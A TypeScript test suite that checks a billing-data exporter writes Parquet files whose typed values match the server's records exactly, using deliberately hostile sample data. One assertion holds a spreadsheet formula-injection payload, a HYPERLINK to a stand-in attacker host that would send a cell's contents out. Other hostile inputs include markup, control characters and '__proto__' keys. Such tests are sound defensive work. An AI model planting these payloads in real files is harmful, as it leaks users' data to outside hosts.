// Parquet exports read back with independent readers (hyparquet; DuckDB for types and SQL) and compared, value by value,
// with the records the server sent: typed columns (INT64 ids, DOUBLE amounts, DATE, TIMESTAMP in
// microseconds, BOOLEAN, STRING), `data` and anything nested as JSON text, fields the schema does
// not name in the `extra` column; row groups written as rows arrive; cancellation leaves nothing.
import assert from 'node:assert/strict';
import fs from 'node:fs';
import os from 'node:os';
import path from 'node:path';
import { after, before, beforeEach, describe, it } from 'node:test';
import { CampfireClient } from '../../src/api/client';
import { CampfireCancelledError } from '../../src/api/errors';
import { runExport, type ExportRequest } from '../../src/export/runner';
import { PARQUET_ROW_GROUP } from '../../src/export/parquet/parquetRows';
import { startSampleServer, type SampleServer } from '../../src/sampleServer/server';
import { leftovers, smallCommit } from './support/exportExpect';
import { FaultPlan } from './support/faults';
import { startInlineServer } from './support/inlineServer';

const KEY = 'parquet-test-key';

interface Column {
  name: string;
  type: string | undefined;
  logical: string | undefined;
}

interface ParquetFileRead {
  columns: Column[];
  rows: Record<string, unknown>[];
  rowGroups: number;
}

async function readParquet(file: string): Promise<ParquetFileRead> {
  const { asyncBufferFromFile, parquetMetadataAsync, parquetReadObjects } = await import('hyparquet');
  const buffer = await asyncBufferFromFile(file);
  const metadata = await parquetMetadataAsync(buffer);
  // Dates as days and timestamps as microseconds, as stored: hyparquet's Date would drop microseconds.
  const rows = await parquetReadObjects({ file: buffer, parsers: { dateFromDays: (d: number) => d, timestampFromMicroseconds: (m: bigint) => m } });
  const columns = metadata.schema.slice(1).map((e) => ({ name: e.name, type: e.type, logical: e.logical_type?.type }));
  return { columns, rows: rows, rowGroups: metadata.row_groups.length };
}

/** Days since 1970-01-01, worked out with Date (its full year set apart: Date.UTC reads 0–99 as 19xx). */
const days = (s: string) => {
  const d = new Date(Date.UTC(2000, Number(s.slice(5, 7)) - 1, Number(s.slice(8, 10))));
  d.setUTCFullYear(Number(s.slice(0, 4)));
  return d.getTime() / 86_400_000;
};
/** Microseconds since the epoch: Date.parse's milliseconds and the digits past them. */
function micros(text: string): bigint {
  // Without an offset Campfire means UTC (Date.parse would read local time).
  const s = /(Z|[+-]\d{2}:\d{2})$/.test(text) ? text : `${text}Z`;
  const fraction = /\.(\d+)/.exec(s)?.[1] ?? '';
  return BigInt(Date.parse(s)) * 1000n + BigInt((fraction.slice(3) + '000').slice(0, 3));
}

/** Every value of every row against the record the server sent, by the column's type in the file. */
function assertValues(read: ParquetFileRead, records: Record<string, unknown>[]): void {
  assert.equal(read.rows.length, records.length, 'one row a record');
  const names = new Set(read.columns.map((c) => c.name));
  for (let i = 0; i < records.length; i++) {
    const record = records[i] as Record<string, unknown>;
    const row = read.rows[i] as Record<string, unknown>;
    for (const c of read.columns) {
      const got = row[c.name];
      if (c.name === 'extra') {
        const unknown = Object.fromEntries(Object.entries(record).filter(([k]) => !names.has(k) || k === 'extra'));
        if (Object.keys(unknown).length === 0) assert.equal(got, null, `row ${i + 1}: extra`);
        else assert.deepEqual(got, unknown, `row ${i + 1}: extra`);
        continue;
      }
      const sent = Object.hasOwn(record, c.name) ? record[c.name] : undefined;
      const where = `row ${i + 1}, ${c.name} (${c.type ?? ''} ${c.logical ?? ''})`;
      if (sent === null || sent === undefined) {
        assert.equal(got ?? null, null, where);
        continue;
      }
      if (c.logical === 'JSON') assert.deepEqual(got, sent, where);
      else if (c.logical === 'DATE') assert.equal(got, days(sent as string), where);
      else if (c.logical === 'TIMESTAMP') assert.equal(got, micros(sent as string), where);
      else if (c.type === 'INT64') assert.equal(got, BigInt(sent as number), where);
      else if (c.logical === 'STRING' && typeof sent !== 'string') assert.deepEqual(JSON.parse(got as string), sent, where);
      else assert.equal(got, sent, where);
    }
  }
}

describe('Parquet export against the local Campfire server (hostile data)', () => {
  let server: SampleServer;
  const faults = new FaultPlan();
  let client: CampfireClient;
  let dir: string;
  const base = (over: Partial<ExportRequest>): ExportRequest => ({ resource: 'contracts', format: 'parquet', target: path.join(dir, 'out.parquet'), pageSize: 100, concurrency: 4, ...over });

  before(async () => {
    server = await startSampleServer({ token: KEY, seed: 21, hostile: true, faults });
    client = new CampfireClient({ baseUrl: server.url, getApiKey: () => KEY, random: () => 0, retry: { maxAttempts: 4 } });
  });
  after(async () => {
    await client.close();
    await server.close();
  });
  beforeEach(() => {
    dir = fs.mkdtempSync(path.join(os.tmpdir(), 'campfire-parquet-test-'));
    faults.set({});
  });

  it('usage events: a typed schema, and every value equals the server’s row, in row groups as rows arrive', async () => {
    const d = server.dataset;
    const pick = smallCommit(d);
    assert.ok(pick);
    const target = path.join(dir, 'events.parquet');
    const r = await runExport(client, base({ resource: 'usageEvents', contractId: pick.contractId, commitId: pick.commitId, target, parquetRowGroup: 500 }));
    const read = await readParquet(target);
    const type = (name: string) => read.columns.find((c) => c.name === name);
    assert.deepEqual(type('id'), { name: 'id', type: 'INT64', logical: undefined });
    assert.deepEqual(type('total_events'), { name: 'total_events', type: 'INT64', logical: undefined });
    assert.deepEqual(type('total_revenue_dollars'), { name: 'total_revenue_dollars', type: 'DOUBLE', logical: undefined });
    assert.deepEqual(type('period_month'), { name: 'period_month', type: 'INT32', logical: 'DATE' });
    assert.deepEqual(type('created_at'), { name: 'created_at', type: 'INT64', logical: 'TIMESTAMP' });
    assert.deepEqual(type('is_adjustment'), { name: 'is_adjustment', type: 'BOOLEAN', logical: undefined });
    assert.deepEqual(type('external_id'), { name: 'external_id', type: 'BYTE_ARRAY', logical: 'STRING' });
    assert.deepEqual(type('data'), { name: 'data', type: 'BYTE_ARRAY', logical: 'JSON' });
    assert.equal(read.columns.at(-1)?.name, 'extra');
    assertValues(read, JSON.parse(JSON.stringify(d.usageEvents(pick.contractId, pick.commitId, 0, pick.n))) as Record<string, unknown>[]);
    assert.equal(read.rowGroups, Math.ceil(pick.n / 500));
    assert.equal(r.rows, pick.n);
    // The formula-looking and markup strings are there as sent.
    assert.ok(read.rows.some((row) => row.external_id === '=HYPERLINK("http://attacker.example/?x="&A1,"click")'));
    assert.deepEqual(leftovers(dir), []);
  });

  it('contracts, prepaid commits and tier price overrides: every value equals the server’s record', async () => {
    const d = server.dataset;
    const cases: [Partial<ExportRequest>, readonly unknown[]][] = [
      [{ resource: 'contracts' }, d.contracts()],
      [{ resource: 'prepaidCommits', contractId: d.wellKnown.contractWithManyCommits }, d.prepaidCommits(d.wellKnown.contractWithManyCommits)],
      [{ resource: 'tierPriceOverrides', contractId: d.wellKnown.contractWithOverrides }, d.tierPriceOverrides(d.wellKnown.contractWithOverrides)],
      [{ resource: 'prepaidCommits', contractId: d.wellKnown.contractWithNoCommits }, []],
    ];
    for (const [req, expected] of cases) {
      const target = path.join(dir, `${String(req.resource)}-${String(req.contractId)}.parquet`);
      const r = await runExport(client, base({ ...req, target }));
      const read = await readParquet(target);
      assert.equal(r.rows, expected.length);
      assert.equal(read.columns[0]?.name, 'id');
      assertValues(read, JSON.parse(JSON.stringify(expected)) as Record<string, unknown>[]);
    }
    assert.deepEqual(leftovers(dir), []);
  });

  it('cancel leaves no file and no temporary file', async () => {
    const { contractId, commitId } = server.dataset.wellKnown.commitWith100kEvents;
    const ctrl = new AbortController();
    faults.set({ latencyMs: 10 });
    await assert.rejects(runExport(client, base({ resource: 'usageEvents', contractId, commitId, target: path.join(dir, 'x.parquet'), pageSize: 200, parquetRowGroup: 300, signal: ctrl.signal, onProgress: (p) => p.rows >= 1000 && ctrl.abort() })), CampfireCancelledError);
    assert.deepEqual(fs.readdirSync(dir), []);
  });
});

describe('Parquet values the sample data does not have', () => {
  it('unknown fields (a number beyond double range among them) in extra, "__proto__" keys, non-ASCII and control characters, microseconds', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'campfire-parquet-cells-'));
    const records = Array.from({ length: 7 }, (_, i) => ({
      id: 2 ** 53 - 1 - i,
      prepaid_commit: 77,
      consumption: i % 2 ? null : 5,
      external_id: ['東京 🔥', '=1+1', 'bell\u0007\u0000', '', '<b>x</b>', '\r\n', 'plain'][i],
      event_date: '2026-03-05',
      period_month: '1969-12-01',
      total_revenue_dollars: [0.30000000000000004, -5, 1e-7, 123456789.12, 0, 12, 1e20][i],
      total_events: i,
      data: JSON.parse(`{"__proto__":{"a":${i}},"team":"t${i}"}`) as unknown,
      adjustment_date: null,
      is_adjustment: i % 3 === 0,
      original_period_month: null,
      created_at: ['2026-03-31T12:00:00.123456+02:00', '2026-03-31T12:00:00Z', '1969-12-31T23:59:59.999999Z', '2026-03-31T12:00:00.1Z', null, '2026-03-31T12:00:00', '2026-03-31T12:00:00.000001-05:30'][i],
      ...(i === 4 ? { brand_new: { nested: [1, 'x'] } } : {}),
    }));
    const stand = await startInlineServer((req, res) => {
      const url = new URL(req.url ?? '/', 'http://x');
      const offset = Number(url.searchParams.get('offset') ?? 0);
      const limit = Number(url.searchParams.get('limit') ?? 100);
      let body = JSON.stringify({ count: records.length, next: null, previous: null, results: records.slice(offset, offset + limit) });
      body = body.replace('"external_id":"=1+1"', '"external_id":"=1+1","huge":1e400');
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(body);
    });
    const client = new CampfireClient({ baseUrl: stand.url, getApiKey: () => KEY, random: () => 0 });
    try {
      const target = path.join(dir, 'cells.parquet');
      await runExport(client, { resource: 'usageEvents', contractId: 12, commitId: 77, format: 'parquet', target, pageSize: 3, concurrency: 2, parquetRowGroup: 2 });
      const read = await readParquet(target);
      assert.equal(read.rowGroups, 4);
      const sent = JSON.parse(JSON.stringify(records).replace('"external_id":"=1+1"', '"external_id":"=1+1","huge":"1e400"')) as Record<string, unknown>[];
      assertValues(read, sent);
      assert.deepEqual(read.rows[1]?.extra, { huge: '1e400' });
      assert.equal(read.rows[0]?.created_at, 1774951200123456n);
      assert.equal(read.rows[2]?.created_at, -1n);
      assert.equal(read.rows[0].id, 2n ** 53n - 1n);
      assert.ok(Object.hasOwn(read.rows[0].data as object, '__proto__'), 'a "__proto__" key stays a key');
      assert.deepEqual(leftovers(dir), []);
    } finally {
      await client.close();
      await stand.close();
    }
  });

  it('DuckDB reads it as written: dates of every year 0001–9999, `data` as JSON (`data->>\'team\'`), counts and sums', async () => {
    const dir = fs.mkdtempSync(path.join(os.tmpdir(), 'campfire-parquet-duckdb-'));
    const dates = ['0001-01-01', '0050-06-15', '0099-12-31', '0100-03-01', '1582-10-04', '1900-02-28', '2000-02-29', '2026-12-07', '9999-12-31'];
    const records = dates.map((date, i) => ({
      id: 1000 + i,
      prepaid_commit: 77,
      consumption: null,
      external_id: `evt_${i}`,
      event_date: date,
      period_month: `${date.slice(0, 7)}-01`,
      total_revenue_dollars: [0.1, 0.2, 12.5, 3, 4.25, 0, 1e-7, 99.99, 7][i] ?? 0,
      total_events: i * 10,
      data: { team: `team ${i % 3}`, region: 'eu' },
      adjustment_date: null,
      is_adjustment: false,
      original_period_month: null,
      created_at: `${date}T08:30:00.000001Z`,
    }));
    const stand = await startInlineServer((req, res) => {
      const url = new URL(req.url ?? '/', 'http://x');
      const offset = Number(url.searchParams.get('offset') ?? 0);
      const limit = Number(url.searchParams.get('limit') ?? 100);
      res.writeHead(200, { 'content-type': 'application/json' });
      res.end(JSON.stringify({ count: records.length, next: null, previous: null, results: records.slice(offset, offset + limit) }));
    });
    const client = new CampfireClient({ baseUrl: stand.url, getApiKey: () => KEY, random: () => 0 });
    const { DuckDBInstance } = await import('@duckdb/node-api');
    const db = await DuckDBInstance.create(':memory:');
    const duck = await db.connect();
    try {
      const target = path.join(dir, 'dates.parquet');
      await runExport(client, { resource: 'usageEvents', contractId: 12, commitId: 77, format: 'parquet', target, pageSize: 4, concurrency: 2, parquetRowGroup: 4 });
      const query = async (sql: string) => (await duck.runAndReadAll(sql.replaceAll('FILE', `read_parquet('${target.replaceAll("'", "''")}')`))).getRowObjectsJson();
      const types = new Map((await query('DESCRIBE SELECT * FROM FILE')).map((r) => [r.column_name as string, r.column_type as string]));
      assert.equal(types.get('event_date'), 'DATE');
      assert.equal(types.get('created_at'), 'TIMESTAMP WITH TIME ZONE');
      assert.equal(types.get('data'), 'JSON');
      assert.equal(types.get('extra'), 'JSON');
      const rows = await query("SELECT id, strftime(event_date, '%Y-%m-%d') AS day, strftime(created_at AT TIME ZONE 'UTC', '%Y-%m-%d %H:%M:%S.%f') AS at, data->>'team' AS team FROM FILE ORDER BY id");
      assert.deepEqual(rows.map((r) => r.day), dates);
      assert.deepEqual(rows.map((r) => r.at), dates.map((d) => `${d} 08:30:00.000001`));
      assert.deepEqual(rows.map((r) => r.team), records.map((r) => r.data.team));
      const [sums] = await query('SELECT count(*) AS n, sum(total_events) AS events, sum(total_revenue_dollars::DECIMAL(18,7)) AS revenue FROM FILE');
      assert.equal(Number(sums?.n), records.length);
      assert.equal(Number(sums?.events), records.reduce((a, r) => a + r.total_events, 0));
      // The exact sum of the amounts sent, to the seventh decimal (DuckDB sums DECIMAL exactly).
      const exact = records.reduce((a, r) => a + BigInt(Math.round(r.total_revenue_dollars * 1e7)), 0n).toString().padStart(8, '0');
      assert.equal(sums?.revenue, `${exact.slice(0, -7)}.${exact.slice(-7)}`);
    } finally {
      duck.closeSync();
      db.closeSync();
      await client.close();
      await stand.close();
    }
  });

  it('the row group size keeps memory flat', () => {
    assert.equal(PARQUET_ROW_GROUP, 8_192);
  });
});
